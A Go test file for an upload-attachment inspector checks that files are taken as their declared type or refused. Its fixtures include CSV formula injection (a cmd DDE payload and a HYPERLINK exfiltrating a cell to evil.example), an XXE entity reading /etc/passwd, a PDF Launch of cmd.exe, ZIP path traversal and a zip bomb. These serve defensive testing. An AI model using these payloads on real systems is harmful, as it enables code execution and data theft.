package inspect_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"image"
	"image/jpeg"
	"image/png"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"wenxiao/domain"
	"wenxiao/eventstore/attachments/inspect"
)

// pdf is the least that readers open, with some more objects.
func pdf(objects ...string) []byte {
	b := bytes.NewBufferString("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
	for i, o := range objects {
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", i+3, o)
	}
	b.WriteString("xref\n0 3\ntrailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n")
	return b.Bytes()
}

func objectStream(dictionary, objects string) string {
	packed := deflated(objects)
	return "<< " + dictionary + " /Filter /FlateDecode /Length " + fmt.Sprint(len(packed)) + " >>\nstream\r\n" + packed + "\nendstream"
}

func deflated(text string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, _ = z.Write([]byte(text))
	_ = z.Close()
	return b.String()
}

// packed is a ZIP of parts, name and content in turn.
func packed(parts ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		if err != nil {
			panic(err)
		}
		_, _ = w.Write([]byte(parts[i+1]))
	}
	_ = z.Close()
	return b.Bytes()
}

const types = `<Types><Default Extension="xml" ContentType="application/xml"/></Types>`

func word(more ...string) []byte {
	return packed(append([]string{"[Content_Types].xml", types, "word/document.xml", "<w:document/>"}, more...)...)
}

func excel(more ...string) []byte {
	return packed(append([]string{"[Content_Types].xml", types, "xl/workbook.xml", "<workbook/>"}, more...)...)
}

func ofd(more ...string) []byte {
	return packed(append([]string{"OFD.xml", "<ofd:OFD/>", "Doc_0/Document.xml", "<ofd:Document/>"}, more...)...)
}

func realExcel(t testing.TB) []byte {
	f := excelize.NewFile()
	if err := f.SetCellValue("Sheet1", "A1", "满意度问卷汇总"); err != nil {
		t.Fatal(err)
	}
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func pngOf(width, height int) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, width, height))); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func jpegOf(width, height int) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, width, height)), nil); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// hugePNG says in its head that it is a hundred thousand pixels wide and high.
func hugePNG() []byte {
	small := pngOf(1, 1)
	head := slices.Clone(small[12:29])
	binary.BigEndian.PutUint32(head[4:], 100_000)
	binary.BigEndian.PutUint32(head[8:], 100_000)
	return slices.Concat(small[:8], chunk(head), small[33:])
}

func gb(text string) []byte {
	b, err := simplifiedchinese.GB18030.NewEncoder().Bytes([]byte(text))
	if err != nil {
		panic(err)
	}
	return b
}

func nested(levels int) []byte {
	inner := excel()
	for range levels {
		inner = excel("xl/embeddings/a.xlsx", string(inner))
	}
	return inner
}

// bomb grows to more than may be.
var bomb = sync.OnceValue(func() []byte { return word("word/media/a.png", strings.Repeat("\x00", 257<<20)) })

// lying says in its directory that its part is smaller than it is.
func lying() []byte {
	data := word("word/media/a.png", strings.Repeat("a", 100_000))
	i := bytes.LastIndex(data, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(data[i+24:], 10)
	return data
}

func encryptedZip() []byte {
	data := word()
	for at := 0; ; {
		i := bytes.Index(data[at:], []byte("PK\x01\x02"))
		if i < 0 {
			return data
		}
		data[at+i+8] |= 1
		at += i + 4
	}
}

type file struct {
	name    string
	content []byte
	want    string // media type, or the code of the refusal
	says    string // part of the reason
}

func files(t testing.TB) []file {
	const docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	const xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	const (
		foreign, renamed, active = "attachment.type-not-taken", "attachment.not-as-named", "attachment.active-content"
		bad, locked, growing     = "attachment.damaged", "attachment.encrypted", "attachment.bomb"
	)
	exe := append([]byte("MZ\x90\x00"), bytes.Repeat([]byte{0xcc}, 500)...)
	return []file{
		{"整改报告.pdf", pdf(), "application/pdf", ""},
		{"大写.PDF", pdf(), "application/pdf", ""},
		{"压缩对象.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", "4 0 << /Type /Annot >>")), "application/pdf", ""},
		{"内容流.pdf", pdf(objectStream("/Type /XObject", "q 1 0 0 1 0 0 cm (/Launcher) Tj Q"), objectStream("/Type /XRef /DecodeParms << /Predictor 12 >>", "\x02\x01\x00")), "application/pdf", ""},
		{"长流.pdf", pdf(objectStream("/Type /XObject", strings.Repeat("/Launcher ", 200_000))), "application/pdf", ""},
		{"文件.ofd", ofd(), "application/ofd", ""},
		{"说明.docx", word("word/media/chart.svg", "<svg/>"), docx, ""},
		{"图表.docx", word("word/embeddings/Sheet1.xlsx", string(excel())), docx, ""},
		{"链接.docx", word("word/_rels/document.xml.rels", `<Relationships><Relationship Type="http://x/hyperlink" Target="https://x" TargetMode="External"/></Relationships>`), docx, ""},
		{"汇总.xlsx", realExcel(t), xlsx, ""},
		{"汇总.csv", []byte("\xef\xbb\xbf项目,得分\n甲,-5\n"), "text/csv", ""},
		{"各种数.csv", []byte("-1,+2,-3.5%,\"-1,234.50\",-1e-3,-.5,-,--,\t-5\n"), "text/csv", ""},
		{"国标.csv", gb("项目,得分\n甲,95\n"), "text/csv", ""},
		{"说明.txt", []byte("已更正。\r\n"), "text/plain", ""},
		{"数据.xml", gb(`<?xml version="1.0" encoding="GBK"?><表>满意度</表>`), "application/xml", ""},
		{"照片.png", pngOf(3, 2), "image/png", ""},
		{"照片.jpeg", jpegOf(3, 2), "image/jpeg", ""},
		{"手机.jpg", append(jpegOf(3, 2), "....ftypmp42"...), "image/jpeg", ""},

		{"空.pdf", nil, "attachment.empty", "空"},
		{"木马.exe", exe, foreign, "程序"},
		{"无扩展名", pdf(), foreign, "扩展名"},
		{"数据.parquet", []byte("PAR1"), foreign, "可交"},
		{"宏.docm", word(), foreign, "宏"},
		{"宏.xlsm", excel(), foreign, "宏"},
		{"旧.doc", []byte("\xd0\xcf\x11\xe0"), foreign, "旧版"},
		{"网页.html", []byte("<html>"), foreign, "网页"},
		{"图.svg", []byte("<svg/>"), foreign, "脚本"},
		{"包.zip", packed("a", "b"), foreign, "解开"},

		{"木马.pdf", exe, renamed, "程序（Windows）"},
		{"木马.docx", exe, renamed, "程序（Windows）"},
		{"木马.xlsx", []byte("\x7fELF...."), renamed, "程序（Linux）"},
		{"木马.png", exe, renamed, "程序"},
		{"木马.jpg", exe, renamed, "程序"},
		{"木马.txt", exe, renamed, "程序"},
		{"木马.csv", []byte("#!/bin/sh\nrm"), renamed, "脚本"},
		{"网页.txt", []byte(" \r\n<!DOCTYPE html><script>"), renamed, "网页"},
		{"网页.xml", []byte("<HTML><body/></HTML>"), renamed, "网页"},
		{"图.xml", []byte("<svg onload='x'/>"), renamed, "图形"},
		{"表.docx", excel(), renamed, "Word"},
		{"文.xlsx", word(), renamed, "Excel"},
		{"包.ofd", packed("a", "b"), renamed, "OFD"},
		{"图.jpg", pngOf(1, 1), renamed, "PNG"},
		{"锁.docx", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), renamed, "加了密"},
		{"宽.txt", []byte("\xff\xfea\x00"), renamed, "UTF-16"},
		{"乱.txt", []byte("\x81\x20\xff"), renamed, "文本"},
		{"控制.csv", []byte("甲\n\x1b[2J"), renamed, "第 2 行"},
		{"前有空.pdf", append([]byte("\n"), pdf()...), renamed, "PDF"},

		{"文件又是包.pdf", slices.Concat(pdf(), packed("a", "b")), renamed, "文件尾之后"},
		{"照片又是包.jpg", slices.Concat(jpegOf(1, 1), packed("a", "b")), renamed, "压缩包"},
		{"图又是包.png", slices.Concat(pngOf(1, 1), packed("a", "b")), renamed, "图尾之后"},
		{"程序又是文档.docx", slices.Concat(exe, word()), renamed, "程序"},
		{"包又是文档.docx", slices.Concat([]byte("PK\x03\x04junkjunkjunkjunkjunkjunkjunk"), word()), renamed, "之前"},
		{"文档又有尾.docx", append(word(), "tail"...), renamed, "之后"},
		{"同名.docx", word("word/document.xml", "<other/>"), renamed, "同名"},
		{"外面.docx", word("../../etc/passwd", "x"), renamed, "外面"},

		{"脚本.pdf", pdf("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), active, "JavaScript"},
		{"藏脚本.pdf", pdf("<< /S /Java#53cript /JS (x) >>"), active, "JavaScript"},
		{"压缩脚本.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", "4 0 << /S /J#61vaScript >>")), active, "JavaScript"},
		{"不说类型.pdf", pdf(objectStream("/N 1 /First 4", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
		{"字符串里的词.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /Pad (obj)", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
		{"名称里的词.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /obj true", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
		{"长填充.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /Pad ("+strings.Repeat(" ", 9000)+")", "4 0 << /S /JavaScript >>")), active, "JavaScript"},
		{"别的流里.pdf", pdf(objectStream("/Type /XObject", strings.Repeat("\x01", 65_530)+"<< /S /JavaScript >>")), active, "JavaScript"},
		{"压两层.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4", deflated("4 0 << /S /JavaScript >>"))), active, "JavaScript"},
		{"启动.pdf", pdf("<</S/Launch/F(cmd.exe)>>"), active, "启动"},
		{"内嵌.pdf", pdf("<</Names<</EmbeddedFiles 9 0 R>>>>"), active, "内嵌"},
		{"表单.pdf", pdf("<</AcroForm<</XFA 9 0 R>>>>"), active, "XFA"},
		{"宏.docx", word("word/vbaProject.bin", "x"), active, "宏"},
		{"宏表.xlsx", excel("xl/macrosheets/sheet1.xml", "x"), active, "宏"},
		{"假类型.docx", packed("[Content_Types].xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, "word/document.xml", ""), active, "宏"},
		{"控件.docx", word("word/activeX/activeX1.bin", "x"), active, "控件"},
		{"对象.docx", word("word/embeddings/oleObject1.bin", "x"), active, "OLE"},
		{"藏程序.ofd", ofd("Doc_0/Res/a.EXE", "MZ"), active, "程序"},
		{"远程模板.docx", word("word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="https://x/a.dotm" TargetMode="External"/>`), active, "别处"},
		{"实体模板.docx", word("word/_rels/settings.xml.rels", `<r:Relationships xmlns:r="y"><r:Relationship Type="http://x/attached&#84;emplate" Target="https://x/a.dotm" TargetMode = 'Ext&#101;rnal'/></r:Relationships>`), active, "别处"},
		{"实体宏.docx", packed("[Content_Types].xml", `<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>`, "word/document.xml", "<w/>", "word/x.bin", "x"), active, "宏"},
		{"内嵌宏.docx", word("word/embeddings/a.xlsx", string(excel("xl/vbaProject.bin", "x"))), active, "宏"},
		{"公式.csv", []byte("甲,=cmd|' /C calc'!A0\n"), active, "第 1 行"},
		{"外送.csv", []byte("名称,数\r\n甲,5\r\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",1\r\n"), active, "第 3 行有以“=”开头"},
		{"加号.csv", []byte("+A1,1\n"), active, "“+”"},
		{"减号.csv", []byte("甲;-A1\n"), active, "“-”"},
		{"函数.csv", []byte("甲\t@SUM(A1)\n"), active, "“@”"},
		{"制表符.csv", []byte("甲,\"\t =A1\"\n"), active, "“=”"},
		{"全角.csv", []byte("甲,＝A1\n"), active, "“＝”"},
		{"外部.xml", []byte(`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), active, "DOCTYPE"},
		{"样式.xml", []byte(`<?xml-stylesheet href="x"?><a/>`), active, "样式表"},
		{"页面.xml", []byte(`<a><b xmlns="http://www.w3.org/1999/xhtml"/></a>`), active, "网页"},

		{"锁.pdf", pdf("<</Encrypt 9 0 R>>"), locked, "密码"},
		{"锁一半.docx", encryptedZip(), locked, "密码"},
		{"看不透.pdf", pdf("<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nxxxx\nendstream"), "attachment.opaque", "PDF/A"},
		{"别的压法.pdf", pdf("<< /N 1 (stream) /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\nxxxx\nendstream"), "attachment.opaque", "PDF/A"},
		{"预测.pdf", pdf(objectStream("/Type /ObjStm /N 1 /First 4 /DecodeParms << /Predictor 12 >>", "x")), "attachment.opaque", "对象流"},
		{"层层压.pdf", pdf(objectStream("", deflated(deflated(deflated(deflated("x")))))), "attachment.opaque", "反复压缩"},
		{"碎流.pdf", pdf(strings.Repeat("stream\nx\x9c\xff\xff\n", 300)), "attachment.opaque", "许多"},
		{"坏关系.docx", word("word/_rels/settings.xml.rels", `<Relationships><Relationship`), bad, "settings.xml.rels"},
		{"关系有类型声明.docx", word("word/_rels/settings.xml.rels", `<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>`), bad, "settings.xml.rels"},
		{"炸弹.docx", bomb(), growing, "256 MiB"},
		{"套娃.xlsx", nested(4), growing, "MiB"},
		{"大图.png", hugePNG(), growing, "像素"},
		{"说谎.docx", lying(), bad, "读不出"},
		{"半截.pdf", pdf()[:60], bad, "没有传完"},
		{"半截.docx", word()[:80], bad, "没有传完"},
		{"半截.png", pngOf(9, 9)[:50], bad, "没有传完"},
		{"半截.jpg", jpegOf(9, 9)[:300], bad, ""},
		{"坏.png", bytes.Replace(pngOf(9, 9), []byte("IDAT"), []byte("IDAX"), 1), bad, "校验和"},
		{"坏.xml", []byte("<a><b></a>"), bad, "第 1 行"},
		{"两根.xml", []byte("<a/><b/>"), bad, "根"},
	}
}

func TestEveryFileIsWhatItIsCalledOrRefused(t *testing.T) {
	for _, f := range files(t) {
		t.Run(f.name, func(t *testing.T) {
			mediaType, err := inspect.File(f.name, bytes.NewReader(f.content), int64(len(f.content)))
			refused := domain.Refused(err)
			switch {
			case strings.Contains(f.want, "/"):
				if err != nil || mediaType != f.want {
					t.Errorf("%s, %v; want %s", mediaType, err, f.want)
				}
			case len(refused) != 1 || refused[0].Code != f.want:
				t.Errorf("%s, %v; want %s", mediaType, err, f.want)
			case refused[0].Field != "/attachments" || !strings.Contains(refused[0].Reason, f.name) || !strings.Contains(refused[0].Reason, f.says) || refused[0].Basis == "":
				t.Errorf("says too little: %+v", refused[0])
			}
		})
	}
}

// TestEveryRefusalIsTested holds the table above to every code there is.
func TestEveryRefusalIsTested(t *testing.T) {
	asked := map[string]bool{}
	for _, f := range files(t) {
		asked[f.want] = true
	}
	for _, source := range []string{"inspect.go", "foreign.go", "pdf.go", "pdf_streams.go", "package.go", "image.go", "text.go"} {
		for _, m := range regexp.MustCompile(`refuse\("(attachment\.[a-z-]+)"`).FindAllStringSubmatch(read(t, source), -1) {
			if !asked[m[1]] {
				t.Errorf("%s: no file is refused with %s", source, m[1])
			}
		}
	}
	for _, k := range inspect.Kinds {
		if !asked[k.MediaType] {
			t.Errorf("no file is taken as %s", k.MediaType)
		}
	}
}

// FuzzFile holds that nothing received can bring the inspection down, or be taken
// as what its first bytes say it is not.
func FuzzFile(f *testing.F) {
	for _, one := range files(f) {
		if len(one.content) < 100_000 {
			f.Add(path.Ext(one.name), one.content)
		}
	}
	f.Fuzz(func(t *testing.T, ending string, data []byte) {
		mediaType, err := inspect.File("文件"+ending, bytes.NewReader(data), int64(len(data)))
		if err != nil {
			if len(domain.Refused(err)) == 0 {
				t.Fatalf("a fault: %v", err)
			}
			return
		}
		for kind, start := range map[string]string{"application/pdf": "%PDF-", "image/png": "\x89PNG", "image/jpeg": "\xff\xd8\xff"} {
			if (mediaType == kind) != bytes.HasPrefix(data, []byte(start)) {
				t.Fatalf("%q is taken as %s", data[:min(8, len(data))], mediaType)
			}
		}
		if packs := strings.Contains(mediaType, "openxml") || mediaType == "application/ofd"; packs != bytes.HasPrefix(data, []byte("PK\x03\x04")) {
			t.Fatalf("%q is taken as %s", data[:min(8, len(data))], mediaType)
		}
	})
}
